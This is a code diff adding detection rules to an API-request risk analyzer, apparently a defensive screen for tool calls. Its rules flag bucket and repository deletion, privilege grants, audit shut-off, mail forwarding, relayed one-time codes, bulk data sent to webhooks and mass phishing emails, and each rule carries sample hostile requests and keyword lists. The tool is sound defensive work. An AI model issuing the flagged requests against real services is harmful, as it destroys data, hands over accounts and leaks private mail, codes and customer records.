@@ -4,6 +4,7 @@
  * reach of a DELETE, privilege and security-setting changes, secrets or data leaving for capture services.
  * Environment (metadata, ?env=, host names) scales destructive findings: staging is routine, production is not.
  */
+import { API_EFFECT_PATTERNS, bulkToHook, codeRelayed, destroysContainer, grantsPower, mailForwarded, massLure, safeguardOff, type ApiView } from '../parse/api-effects.js';
 import { COMMON_PATTERNS, envOf, envOfText, type Env } from '../parse/api-common.js';
 import { parseRequest, requestText, REQUEST_PATTERNS, type ApiRequest } from '../parse/api-request.js';
 import type { Analyzer, BaseContext, Finding, Metadata } from '../types.js';
@@ -23,6 +24,11 @@ interface ApiContext extends BaseContext {
   readonly head: string;
   /** The head carries a free-text field (prompt, comment, message): PROSE_KEY. */
   readonly prose: boolean;
+}
+
+/** The request as api-effects.ts reads it. */
+function viewOf(ctx: ApiContext): ApiView {
+  return { method: ctx.req.method.toUpperCase(), path: ctx.req.path, host: ctx.req.host, head: ctx.head };
 }
 
 type InternalClass = 'metadata' | 'loopback' | 'private' | 'internal-name';
@@ -933,10 +939,94 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
         pass: [{ value: 'POST https://db-proxy.example.com/v1/sql', metadata: { body: { sql: 'DELETE FROM sessions WHERE expires_at < now()' } } }, 'POST https://api.example.com/query {"statement":"DROP TABLE tmp_import"}', 'POST https://api.example.com/v1/notes {"text":"remember to DROP TABLE old_users"}'],
       },
     },
+    {
+      id: 'A26',
+      name: 'Container-level resource deleted (bucket, repository, workspace, database), possibly for good',
+      primitive: 'DESTRUCTION',
+      score: 7,
+      keywords: ['delete', 'purge'],
+      detect: (ctx) => destroysContainer(viewOf(ctx)) ?? undefined,
+      examples: {
+        flag: ["DELETE https://api.backblazeb2.com/b2api/v2/b2_delete_bucket bucketId=4a48fe8875c6214145260818 (all file versions)", "DELETE https://api.notion.com/v1/blocks/{workspace_root} ?permanent=true", "DELETE https://api.github.com/repos/acme/payments-service"],
+        pass: ["DELETE https://api.example.com/v1/carts/8812/items/3", "GET https://api.github.com/repos/acme/web", "DELETE https://api.example.com/v1/sessions/abc"],
+      },
+    },
+    {
+      id: 'A27',
+      name: 'Privileged role written into a user record',
+      primitive: 'ESCALATION',
+      score: 7,
+      keywords: ['role', 'permission', 'admin', 'access_level', 'setowner', 'set_owner', 'promote', 'makeadmin', 'make_admin'],
+      detect: (ctx) => grantsPower(viewOf(ctx)) ?? undefined,
+      examples: {
+        flag: ['PATCH https://api.acme.com/v2/users/8812 {"role":"superadmin","mfa_required":false}', 'POST https://api.acme.com/v1/admin/users {"email":"suporte.tecnico.br@outlook.com","role":"owner"}'],
+        pass: ['PATCH https://api.acme.com/v2/users/8812 {"role":"viewer"}', 'GET https://api.acme.com/v2/users?role=admin', 'POST https://api.acme.com/v1/users {"email":"new@acme.com","role":"member"}'],
+      },
+    },
+    {
+      id: 'A28',
+      name: 'Audit, logging or another safeguard switched off through an API',
+      primitive: 'MANIPULATION',
+      score: 7,
+      keywords: ['enabled', 'retention', 'enforced', 'disabled', 'active'],
+      detect: (ctx) => safeguardOff(viewOf(ctx)) ?? undefined,
+      examples: {
+        flag: ['PUT https://api.acme.com/v1/audit/settings {"retention_days":0,"enabled":false}', 'PATCH https://api.acme.com/v1/org/mfa {"enforced": false}'],
+        pass: ['PUT https://api.acme.com/v1/audit/settings {"retention_days":365,"enabled":true}', 'PATCH https://api.acme.com/v1/features/dark_mode {"enabled":false}'],
+      },
+    },
+    {
+      id: 'A29',
+      name: 'Mailbox rule forwarding mail to an address',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['messagerules', 'forwarding', 'autoforward', 'auto_forward', 'mailboxsettings', 'filters', 'inboxrules', 'transportrule'],
+      detect: (ctx) => mailForwarded(viewOf(ctx)) ?? undefined,
+      examples: {
+        flag: ["PATCH https://graph.microsoft.com/v1.0/users/ceo@acme.com/mailFolders/inbox/messageRules {forwardTo: [{emailAddress: {address: 'records@mail-archive.cc'}}]}", 'POST https://gmail.googleapis.com/gmail/v1/users/me/settings/forwardingAddresses {"forwardingEmail":"x@proton.me"}'],
+        pass: ["GET https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules", 'POST https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules {"displayName":"Newsletters","actions":{"moveToFolder":"News"}}'],
+      },
+    },
+    {
+      id: 'A30',
+      name: 'One-time or verification code relayed in a message',
+      primitive: 'EXFILTRATION',
+      score: 7,
+      keywords: ['code', 'otp', 'passcode', 'código', 'bestätigungscode'],
+      detect: (ctx) => codeRelayed(viewOf(ctx)) ?? undefined,
+      examples: {
+        flag: ["POST https://api.twilio.com/2010-04-01/Accounts/AC12/Messages.json To=+15555550123 Body='fwd: Chase verification code 482913 (from Ana phone)'"],
+        pass: ["POST https://api.twilio.com/2010-04-01/Accounts/AC12/Messages.json To=+15555550123 Body='Your order has shipped'", "POST https://api.acme.com/v1/auth/verify {\"code\": \"482913\"}"],
+      },
+    },
+    {
+      id: 'A31',
+      name: 'Bulk records posted to an outside automation or capture hook',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['zapier', 'integromat', 'make.com', 'ifttt', 'pipedream', 'webhook.site', 'n8n', 'requestbin', 'hooks.slack'],
+      detect: (ctx) => bulkToHook(viewOf(ctx)) ?? undefined,
+      examples: {
+        flag: ["POST https://hooks.zapier.com/hooks/catch/998/abc/ payload=<contents of customers table>"],
+        pass: ["POST https://hooks.zapier.com/hooks/catch/998/abc/ {\"event\":\"deploy_finished\"}", "POST https://hooks.slack.com/services/T0/B0/x {\"text\":\"build ok\"}"],
+      },
+    },
+    {
+      id: 'A32',
+      name: 'Credential lure mailed to every customer',
+      primitive: 'MANIPULATION',
+      score: 7,
+      keywords: ['all_customers', 'all_users', 'audience', 'segment', 'every customer', 'list=all'],
+      detect: (ctx) => massLure(viewOf(ctx)) ?? undefined,
+      examples: {
+        flag: ["POST https://api.sendgrid.com/v3/mail/send to=all_customers subject='Urgent: verify your account' link=https://acme-verify.help/login"],
+        pass: ["POST https://api.sendgrid.com/v3/mail/send to=all_customers subject='Our spring release notes'", "POST https://api.sendgrid.com/v3/mail/send to=ana@acme.com subject='Urgent: verify your account'"],
+      },
+    },
   ],
   auxPatterns: [
     BODY_DESTRUCTIVE_SQL, SCRATCH_TABLE, TRAILING_PUNCT, PROSE_KEY, TRAVERSAL, SENSITIVE_FILE, CRED_MINT_PATH, GQL_HIGH_DELETE, GQL_AUTH_OP, FIRST_HOST, JWT_HEAD, ALG_NONE, ...INJECTION_SHAPES.map((e) => e[0]), ADMIN_VERB, PATH_SPLIT, LOW_ROLE,
-    MINOR_SUBCOLLECTION, NESTED_SCHEME, BODY_SCHEME, PORT_SUFFIX,
+    ...API_EFFECT_PATTERNS, MINOR_SUBCOLLECTION, NESTED_SCHEME, BODY_SCHEME, PORT_SUFFIX,
     LEADING_DELETE, DESTROY_RESOURCE, SEND_WORD, MFA_RESET_PATH, NESTED_URL_PARAM, VERSION_SEGMENT, BODY_ROLE_KEY, ADMIN_SEGMENT, IPV4, EMBEDDED_IP, INTERNAL_SUFFIX, SENSITIVE_INTERNAL_PATH, HEALTH_PATH, ID_SEGMENT, BULK_SEGMENT, HIGH_VALUE, BULK_PARAM, DESTRUCTIVE_ENDPOINT,
     DESTRUCTIVE_WORDS, PRIV_PATH, POWER_WORD, AWS_PRIV_ACTION, CRED_PARAM, SECRET_PARAM, ...SECRET_SHAPES.map(([re]) => re), SECRET_STORE_HOST,
     MASS_PARAM, EXPORT_PATH, PII_NOUN, HOOK_PATH, BODY_URL, PAY_SEGMENT, CRYPTO_SEND, CLOUD_HOST, CLOUD_DESTROY_ACTION, CLOUD_VERB_PATH,
